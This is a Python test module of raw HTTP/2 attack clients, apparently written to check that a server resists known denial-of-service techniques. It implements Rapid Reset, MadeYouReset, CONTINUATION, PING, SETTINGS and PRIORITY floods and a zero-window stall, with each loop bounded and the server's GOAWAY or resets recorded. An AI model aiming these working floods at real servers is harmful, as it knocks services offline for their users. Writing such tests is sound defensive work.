"""HTTP/2 attack clients for the end-to-end tests (Python `h2`'s hpack and hyperframe, raw frames).

Every attack writes raw frames on its own socket (TLS with ALPN h2, or plain with prior knowledge), so that it
can send what a well-behaved client never would, and reads the server's frames between batches so that a
GOAWAY is seen before the server's close resets the socket. Every loop is bounded in count and in time.
"""
from __future__ import annotations

import socket
import ssl
import time
from dataclasses import dataclass, field

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENHANCE_YOUR_CALM = 0xB
CANCEL = 0x8


@dataclass
class Outcome:
    """What the server did to an attacking connection."""
    sent: int = 0                      # attack units sent (streams, frames)
    goaway: int | None = None          # the GOAWAY's error code, if one came
    goaway_debug: bytes = b""
    closed: bool = False               # the server closed the connection
    resets: int = 0                    # RST_STREAM frames from the server
    responses: int = 0                 # response HEADERS frames from the server
    seconds: float = 0.0
    streams_done: set = field(default_factory=set)


class H2Conn:
    """One raw HTTP/2 client connection."""

    def __init__(self, host: str, port: int, *, cafile=None, server_name: str = "weir.test",
                 settings: dict | None = None, timeout: float = 10.0):
        raw = socket.create_connection((host, port), timeout=timeout)
        # Small frames (WINDOW_UPDATE, RST_STREAM) go out at once, as real HTTP/2 clients send them: with
        # Nagle each would wait for the server's delayed ACK (40 ms).
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if cafile is not None:
            ctx = ssl.create_default_context(cafile=str(cafile))
            ctx.set_alpn_protocols(["h2"])
            self.sock = ctx.wrap_socket(raw, server_hostname=server_name)
            assert self.sock.selected_alpn_protocol() == "h2", "the server did not choose h2 by ALPN"
        else:
            self.sock = raw
        self.authority = server_name
        self.encoder = Encoder()
        self.buffer = b""
        self.outcome = Outcome()
        self.next_stream = 1
        s = SettingsFrame(0)
        s.settings = settings or {}
        self.send(PREFACE + s.serialize())

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def send(self, data: bytes) -> bool:
        """False once the server has closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.outcome.closed = True
            return False

    def request_block(self, path: str = "/", method: str = "GET", extra=()) -> bytes:
        return self.encoder.encode([(":method", method), (":scheme", "https" if isinstance(self.sock, ssl.SSLSocket)
                                                          else "http"),
                                    (":authority", self.authority), (":path", path), *extra])

    def new_stream(self) -> int:
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def headers(self, sid: int, path: str = "/", end_stream: bool = True, method: str = "GET") -> bytes:
        f = HeadersFrame(sid, self.request_block(path, method))
        f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return f.serialize()

    def read(self, wait: float = 0.0) -> list:
        """The frames that arrived within `wait` seconds (0: only what is already there); SETTINGS are ACKed."""
        frames = []
        deadline = time.monotonic() + wait
        while not self.outcome.closed:
            self.sock.settimeout(max(0.0, deadline - time.monotonic()) or 0.0001)
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
                break
            except (OSError, ssl.SSLError):
                self.outcome.closed = True
                break
            if not chunk:
                self.outcome.closed = True
                break
            self.buffer += chunk
            frames += self._parse()
            if frames:
                break
        return frames

    def _parse(self) -> list:
        frames = []
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                break
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            frames.append(frame)
            self._note(frame)
        return frames

    def _note(self, frame):
        o = self.outcome
        if isinstance(frame, GoAwayFrame):
            o.goaway = frame.error_code
            o.goaway_debug = frame.additional_data
        elif isinstance(frame, RstStreamFrame):
            o.resets += 1
        elif isinstance(frame, HeadersFrame):
            o.responses += 1
            if "END_STREAM" in frame.flags:
                o.streams_done.add(frame.stream_id)
        elif isinstance(frame, DataFrame):
            if "END_STREAM" in frame.flags:
                o.streams_done.add(frame.stream_id)
            if frame.flow_controlled_length:  # keep windows open for well-behaved runs
                for sid in (0, frame.stream_id):
                    self.send(WindowUpdateFrame(sid, frame.flow_controlled_length).serialize())
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            self.send(ack.serialize())

    def wait_closed(self, seconds: float) -> Outcome:
        """Reads until the server sends GOAWAY or closes, at most `seconds`."""
        deadline = time.monotonic() + seconds
        while self.outcome.goaway is None and not self.outcome.closed and time.monotonic() < deadline:
            self.read(0.05)
        return self.outcome


def _flood(conn: H2Conn, unit, count: int, batch: int, seconds: float) -> Outcome:
    """Sends `unit(i)` for i < count in batches, reading between them; stops at GOAWAY, close or `seconds`."""
    start = time.monotonic()
    i = 0
    while i < count and conn.outcome.goaway is None and not conn.outcome.closed:
        if time.monotonic() - start > seconds:
            break
        data = b"".join(unit(j) for j in range(i, min(count, i + batch)))
        if not conn.send(data):
            break
        i = min(count, i + batch)
        conn.outcome.sent = i
        conn.read()
    conn.wait_closed(2.0)
    conn.outcome.seconds = time.monotonic() - start
    return conn.outcome


def rapid_reset(conn: H2Conn, count: int = 20000, batch: int = 50, seconds: float = 10.0) -> Outcome:
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, stream after stream."""
    def unit(_):
        sid = conn.new_stream()
        return conn.headers(sid, "/rapid-reset") + RstStreamFrame(sid, CANCEL).serialize()
    return _flood(conn, unit, count, batch, seconds)


def provoked_resets(conn: H2Conn, count: int = 20000, batch: int = 50, seconds: float = 10.0) -> Outcome:
    """MadeYouReset (CVE-2025-8671): a complete request, then DATA on the closed half of its stream, which
    the server must answer with RST_STREAM(STREAM_CLOSED): the reset comes from the server, not the client."""
    def unit(_):
        sid = conn.new_stream()
        data = DataFrame(sid, b"x")
        return conn.headers(sid, "/made-you-reset") + data.serialize()
    return _flood(conn, unit, count, batch, seconds)


def window_overflow_resets(conn: H2Conn, count: int = 20000, batch: int = 50, seconds: float = 10.0) -> Outcome:
    """MadeYouReset, second form: a WINDOW_UPDATE that overflows the stream's window (FLOW_CONTROL_ERROR)."""
    def unit(_):
        sid = conn.new_stream()
        return conn.headers(sid, "/made-you-reset") + WindowUpdateFrame(sid, 2**31 - 1).serialize()
    return _flood(conn, unit, count, batch, seconds)


def continuation_flood(conn: H2Conn, frames: int = 100000, batch: int = 200, seconds: float = 10.0) -> Outcome:
    """2024: a HEADERS without END_HEADERS, then CONTINUATION frames of new header fields that never end."""
    sid = conn.new_stream()
    first = HeadersFrame(sid, conn.request_block("/continuation"))
    if not conn.send(first.serialize()):
        return conn.outcome
    # A literal field without indexing ("x-flood: aaaa..."), 1 KiB per frame: every one costs HPACK work.
    literal = b"\x00\x07x-flood\x7f\x81\x07" + b"a" * 1024
    return _flood(conn, lambda _: ContinuationFrame(sid, literal).serialize(), frames, batch, seconds)


def ping_flood(conn: H2Conn, count: int = 100000, batch: int = 200, seconds: float = 10.0) -> Outcome:
    return _flood(conn, lambda j: PingFrame(0, (j % 2**63).to_bytes(8, "big")).serialize(), count, batch, seconds)


def settings_flood(conn: H2Conn, count: int = 100000, batch: int = 200, seconds: float = 10.0) -> Outcome:
    def unit(_):
        s = SettingsFrame(0)
        s.settings = {SettingsFrame.MAX_CONCURRENT_STREAMS: 100}
        return s.serialize()
    return _flood(conn, unit, count, batch, seconds)


def priority_flood(conn: H2Conn, count: int = 100000, batch: int = 200, seconds: float = 10.0) -> Outcome:
    return _flood(conn, lambda j: PriorityFrame(2 * j + 1, depends_on=0, stream_weight=16).serialize(),
                  count, batch, seconds)


def zero_window(conn: H2Conn, path: str, seconds: float = 10.0) -> Outcome:
    """Asks for `path` with an initial window of 0 (set at connect) and never opens it."""
    start = time.monotonic()
    sid = conn.new_stream()
    conn.send(conn.headers(sid, path))
    deadline = start + seconds
    while conn.outcome.goaway is None and not conn.outcome.closed and conn.outcome.resets == 0 \
            and time.monotonic() < deadline:
        # read without acknowledging DATA: no DATA can come while the window is 0
        conn.read(0.05)
    conn.outcome.seconds = time.monotonic() - start
    return conn.outcome


def cancel_after_response(conn: H2Conn, rounds: int = 500, path: str = "/", seconds: float = 20.0) -> Outcome:
    """A legitimate canceller (a browser leaving a page, curl stopping a transfer): each round one stream
    completes and one is cancelled after its response head arrived."""
    start = time.monotonic()
    for _ in range(rounds):
        if conn.outcome.goaway is not None or conn.outcome.closed or time.monotonic() - start > seconds:
            break
        done = conn.new_stream()
        cancelled = conn.new_stream()
        conn.send(conn.headers(done, path) + conn.headers(cancelled, path))
        seen_head = False
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not conn.outcome.closed:
            for f in conn.read(0.05):
                if isinstance(f, HeadersFrame) and f.stream_id == cancelled and not seen_head:
                    seen_head = True
                    conn.send(RstStreamFrame(cancelled, CANCEL).serialize())
            if done in conn.outcome.streams_done and (seen_head or cancelled in conn.outcome.streams_done):
                break
        conn.outcome.sent += 1
    conn.outcome.seconds = time.monotonic() - start
    return conn.outcome
